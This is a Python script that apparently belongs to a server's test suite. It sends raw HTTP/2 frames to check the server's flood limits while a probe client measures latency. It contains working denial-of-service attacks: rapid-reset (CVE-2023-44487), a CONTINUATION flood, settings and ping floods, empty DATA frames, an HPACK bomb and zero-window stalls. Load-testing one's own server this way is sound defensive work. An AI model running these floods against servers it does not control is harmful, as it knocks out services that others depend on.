#!/usr/bin/python3
"""Drives raw HTTP/2 frames at a server (cleartext, prior knowledge) to check its flood limits.

    scripts/h2-attack.py HOST PORT ATTACK [--count N] [--path P] [--big PATH] [--hold SECONDS]

ATTACK is one of: rapid-reset, continuation, settings-flood, ping-flood, empty-data,
hpack-bomb, zero-window, baseline. While the attack runs, a second thread sends a plain
HTTP/1.1 GET for --path to the same server every 50 ms on fresh connections (a normal client
measured at the same time); its slowest answer and its failures are reported.

Prints one JSON object: what was sent, what the server answered (GOAWAY and its error code,
RST_STREAMs, responses), whether it closed the connection, and the probe's figures.
Frames are built with hyperframe and hpack (Debian python3-h2 pulls both in).
Only ever point it at a server you run: it is an attack tool.
"""
import argparse
import json
import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
               11: "ENHANCE_YOUR_CALM"}


class Reader(threading.Thread):
    """Reads and classifies every frame the server sends, until the connection closes."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.goaway = None
        self.goaway_at = None
        self.resets = 0
        self.reset_codes = {}
        self.responses = 0
        self.data_bytes = 0
        self.closed = threading.Event()
        self.settings_acks = 0
        self.pings = 0
        self.first_reset_at = None

    def run(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    ftype, flags = buf[3], buf[4]
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    if ftype == 7:  # GOAWAY
                        self.goaway = int.from_bytes(payload[4:8], "big")
                        self.goaway_at = time.monotonic()
                    elif ftype == 3:  # RST_STREAM
                        self.resets += 1
                        code = int.from_bytes(payload[0:4], "big")
                        self.reset_codes[code] = self.reset_codes.get(code, 0) + 1
                        if self.first_reset_at is None:
                            self.first_reset_at = time.monotonic()
                    elif ftype == 1:  # HEADERS
                        self.responses += 1
                    elif ftype == 0:
                        self.data_bytes += length
                    elif ftype == 4 and flags & 1:
                        self.settings_acks += 1
                    elif ftype == 6 and flags & 1:
                        self.pings += 1
        except OSError:
            pass
        self.closed.set()


class Probe(threading.Thread):
    """A normal HTTP/1.1 client: one GET every 50 ms on a fresh connection."""

    def __init__(self, host, port, path):
        super().__init__(daemon=True)
        self.host, self.port, self.path = host, port, path
        self.stop = threading.Event()
        self.latencies = []
        self.failures = []

    def once(self):
        start = time.monotonic()
        try:
            with socket.create_connection((self.host, self.port), timeout=5) as s:
                s.sendall(f"GET {self.path} HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n".encode())
                data = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            status = data.split(b" ", 2)[1] if data.startswith(b"HTTP/1.1 ") else b"?"
            if status != b"200":
                self.failures.append(f"status {status.decode(errors='replace')}")
        except OSError as e:
            self.failures.append(f"{type(e).__name__}: {e}")
        self.latencies.append(time.monotonic() - start)

    def run(self):
        while not self.stop.is_set():
            self.once()
            self.stop.wait(0.05)


def frame(f: Frame) -> bytes:
    return f.serialize()


def request_block(enc, path, authority="attack"):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", authority)])


def connect(host, port, settings=None):
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SettingsFrame(0, settings=settings or {})))
    return sock


def send(sock, data, reader):
    """Sends unless the server has closed; returns False once it has."""
    if reader.closed.is_set():
        return False
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("attack")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--path", default="/robots.txt")
    ap.add_argument("--big", default="/robots.txt", help="a large file, for zero-window")
    ap.add_argument("--hold", type=float, default=10.0, help="seconds to wait for the server's reaction")
    a = ap.parse_args()

    probe = Probe(a.host, a.port, a.path)
    probe.start()
    time.sleep(0.2)

    enc = Encoder()
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if a.attack == "zero-window" else None
    sock = connect(a.host, a.port, settings)
    reader = Reader(sock)
    reader.start()
    sent = 0
    start = time.monotonic()
    batch = 50

    if a.attack == "rapid-reset":
        # HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487).
        sid = 1
        while sent < a.count:
            out = b""
            for _ in range(batch):
                out += frame(HeadersFrame(sid, data=request_block(enc, a.path), flags=["END_HEADERS", "END_STREAM"]))
                out += frame(RstStreamFrame(sid, error_code=8))
                sid += 2
            if not send(sock, out, reader):
                break
            sent += batch
    elif a.attack == "continuation":
        # A header block that never ends: CONTINUATION frames of 4 KiB without END_HEADERS
        # (the 2024 CONTINUATION flood; Varnish's f00015 sends 1000 of 4 KiB).
        block = request_block(enc, a.path)
        if send(sock, frame(HeadersFrame(1, data=block, flags=["END_STREAM"])), reader):
            junk = enc.encode([("x-junk", "a" * 4000)])
            while sent < a.count:
                if not send(sock, b"".join(frame(ContinuationFrame(1, data=junk)) for _ in range(batch)), reader):
                    break
                sent += batch
    elif a.attack in ("settings-flood", "ping-flood"):
        make = (lambda i: SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096})) if a.attack == "settings-flood" \
            else (lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")))
        while sent < a.count:
            if not send(sock, b"".join(frame(make(sent + i)) for i in range(batch)), reader):
                break
            sent += batch
    elif a.attack == "empty-data":
        # A request left open, then DATA frames carrying nothing (CVE-2019-9518).
        if send(sock, frame(HeadersFrame(1, data=request_block(enc, a.path), flags=["END_HEADERS"])), reader):
            while sent < a.count:
                if not send(sock, b"".join(frame(DataFrame(1, data=b"")) for _ in range(batch)), reader):
                    break
                sent += batch
    elif a.attack == "hpack-bomb":
        # One 4 KiB header inserted in the dynamic table, then referenced by index over and over:
        # a few bytes on the wire each, 4 KiB each once decoded.
        big = enc.encode([("x-bomb", "b" * 4000)])
        sid = 1
        if send(sock, frame(HeadersFrame(sid, data=request_block(enc, a.path) + big, flags=["END_HEADERS", "END_STREAM"])), reader):
            sent = 1
            sid += 2
            while sent < a.count:
                refs = enc.encode([("x-bomb", "b" * 4000)] * 4000)  # ~4000 bytes: each a 1-byte index
                if not send(sock, frame(HeadersFrame(sid, data=request_block(enc, a.path) + refs,
                                                     flags=["END_HEADERS", "END_STREAM"])), reader):
                    break
                sent += 1
                sid += 2
                time.sleep(0.01)
    elif a.attack == "zero-window":
        # Client window 0 (SETTINGS above): every response stalls after its headers. The server
        # must give up on the streams (send timeout), not hold them and their buffers for ever.
        sid = 1
        out = b""
        for _ in range(min(a.count, 100)):
            out += frame(HeadersFrame(sid, data=request_block(enc, a.big), flags=["END_HEADERS", "END_STREAM"]))
            sid += 2
            sent += 1
        send(sock, out, reader)
    elif a.attack == "baseline":
        # Well-behaved: count GETs in waves of 50 (under the stream limit), each wave answered
        # before the next starts.
        sid = 1
        send(sock, frame(WindowUpdateFrame(0, window_increment=1 << 30)), reader)
        while sent < a.count:
            wave = min(50, a.count - sent)
            out = b""
            for _ in range(wave):
                out += frame(HeadersFrame(sid, data=request_block(enc, a.path), flags=["END_HEADERS", "END_STREAM"]))
                sid += 2
            if not send(sock, out, reader):
                break
            sent += wave
            deadline = time.monotonic() + 10
            while reader.responses < sent and time.monotonic() < deadline and not reader.closed.is_set():
                time.sleep(0.002)
    else:
        print(f"h2-attack: unknown attack {a.attack}", file=sys.stderr)
        sys.exit(2)

    send_seconds = time.monotonic() - start
    reader.closed.wait(a.hold)
    closed = reader.closed.is_set()
    try:
        sock.close()
    except OSError:
        pass
    time.sleep(0.3)
    probe.stop.set()
    probe.join()
    probe.once()  # and one more after the attack connection is gone
    print(json.dumps({
        "attack": a.attack,
        "sent": sent,
        "send_seconds": round(send_seconds, 3),
        "goaway": ERROR_NAMES.get(reader.goaway, reader.goaway) if reader.goaway is not None else None,
        "goaway_after": round(reader.goaway_at - start, 3) if reader.goaway_at else None,
        "closed_by_server": closed,
        "resets": reader.resets,
        "reset_codes": {ERROR_NAMES.get(k, str(k)): v for k, v in reader.reset_codes.items()},
        "first_reset_after": round(reader.first_reset_at - start, 3) if reader.first_reset_at else None,
        "responses": reader.responses,
        "data_bytes": reader.data_bytes,
        "settings_acks": reader.settings_acks,
        "ping_acks": reader.pings,
        "probe_requests": len(probe.latencies),
        "probe_failures": probe.failures[:5],
        "probe_max_ms": round(max(probe.latencies) * 1000, 1) if probe.latencies else None,
    }))


if __name__ == "__main__":
    main()
